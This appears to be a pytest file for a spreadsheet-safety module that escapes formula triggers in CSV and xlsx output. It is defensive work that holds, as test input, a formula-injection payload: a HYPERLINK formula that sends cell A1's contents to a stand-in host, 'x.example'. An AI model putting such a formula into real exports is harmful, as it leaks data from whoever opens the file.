"""analysis.io.safe_cells: text from input files never becomes a formula (xlsx) or a live cell (CSV)."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from analysis.io import output, safe_cells

EVIL = '=HYPERLINK("http://x.example/?leak="&A1,"click")'


@pytest.mark.parametrize("value, expected", [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("平川区", "平川区"), ("a=b", "a=b"), ("", ""),
    (-1.5, -1.5), (3, 3), (None, None),
])
def test_neutralise(value, expected):
    assert safe_cells.neutralise(value) == expected


def test_csv_text_is_neutralised_numbers_stay_numbers():
    df = pd.DataFrame({"region": [EVIL, "平川区"], "value": [-1.5, 2.0], "note": ["-x", "ok"]})
    csv = safe_cells.frame_to_csv(df)
    assert csv.splitlines()[1] == '"\'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",-1.5,\'-x'
    back = pd.read_csv(io.StringIO(csv))
    assert back["value"].tolist() == [-1.5, 2.0]
    assert all(not str(v).startswith(safe_cells.CSV_TRIGGERS) for v in back["region"])
    assert back["note"].tolist() == ["'-x", "ok"]


def test_openpyxl_would_store_a_formula_write_cell_stores_text():
    wb = Workbook()
    ws = wb.active
    ws.cell(row=1, column=1, value=EVIL)
    assert ws.cell(row=1, column=1).data_type == "f"  # the behaviour we guard against
    cell = safe_cells.write_cell(ws, 2, 1, EVIL)
    assert cell.data_type == "s" and cell.value == EVIL
    ws.append([EVIL])
    assert safe_cells.no_formulas(wb) == 2
    buf = io.BytesIO()
    wb.save(buf)
    back = load_workbook(io.BytesIO(buf.getvalue()))
    assert all(c.data_type != "f" for row in back.active.iter_rows() for c in row)
    assert back.active["A2"].value == EVIL


def test_render_xlsx_and_csv_are_safe(tmp_path):
    df = pd.DataFrame({"region": [EVIL], "value": [1.0]})
    output.render(df, "xlsx", tmp_path / "a.xlsx")
    ws = load_workbook(tmp_path / "a.xlsx").active
    assert ws["A2"].data_type == "s" and ws["A2"].value == EVIL and ws["B2"].value == 1.0
    output.render(df, "csv", tmp_path / "a.csv")
    text = (tmp_path / "a.csv").read_text(encoding="utf-8-sig")
    assert "\n\"'=HYPERLINK" in text and text.rstrip().endswith(",1.0")


def test_template_region_is_text(tmp_path):
    from analysis.io import template

    targets = pd.DataFrame({"id": ["x"], "name_zh": ["测试"], "name_en": ["test"], "unit": ["家"], "kind": ["count"],
                            "comparator": [">="], "value": [1.0], "deadline": [2020]})
    wb = template.build_workbook(targets, (2019, 2020), region=EVIL)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == EVIL]
    assert cells and all(c.data_type == "s" for c in cells)


MIXED = pd.DataFrame({
    "region": [EVIL, "平川区", 'say "hi"', "a,b", "two\nlines", None, "-x", "+1", "@a", "\tt"],
    "value": [-1.5, 0.1 + 0.2, float("nan"), -0.0, 0.0, 1e16, 1e-05, 123456789012345.6, float("inf"), 2.0],
    "year": pd.array([2019, None, 2020, 2021, None, 2018, 2017, 2016, 2015, 2014], dtype="Int64"),
    "n": list(range(10)),
    "flag": [True, False] * 5,
    "=name": ["x"] * 10,
})


@pytest.mark.parametrize("frame", [MIXED, MIXED.iloc[:0], MIXED.astype({"region": "str"}),
                                   MIXED.astype({"region": object}), MIXED[["value", "n"]]],
                         ids=["mixed", "empty", "str-dtype", "object", "numbers"])
def test_fast_csv_same_bytes_as_pandas(frame):
    """The column-by-column CSV is byte for byte what ``to_csv`` writes after neutralising."""
    fast = safe_cells._fast_csv(frame)
    assert fast is not None
    assert fast == safe_cells.neutralise_frame(frame).to_csv(index=False, lineterminator="\n")


def test_fast_csv_by_hand():
    df = pd.DataFrame({"region": ["=1+1", 'a "b"', None], "value": [0.1 + 0.2, -0.0, float("nan")],
                       "year": pd.array([2020, None, 5], dtype="Int64")})
    assert safe_cells.frame_to_csv(df) == ("region,value,year\n'=1+1,0.30000000000000004,2020\n"
                                           '"a ""b""",-0.0,\n,,5\n')


@pytest.mark.parametrize("frame", [pd.DataFrame({"a": [1.5, 2.0]}),
                                   pd.DataFrame({"a": [1, 2], "b": [[1], [2]]}),
                                   pd.DataFrame({"a": ["x", 1], "b": [1, 2]}),
                                   pd.DataFrame({"a": pd.to_datetime(["2020-01-01", "2021-01-01"]), "b": [1, 2]})],
                         ids=["one-column", "lists", "mixed-object", "dates"])
def test_other_frames_go_through_pandas(frame):
    assert safe_cells._fast_csv(frame) is None
    assert safe_cells.frame_to_csv(frame) == safe_cells.neutralise_frame(frame).to_csv(index=False,
                                                                                       lineterminator="\n")
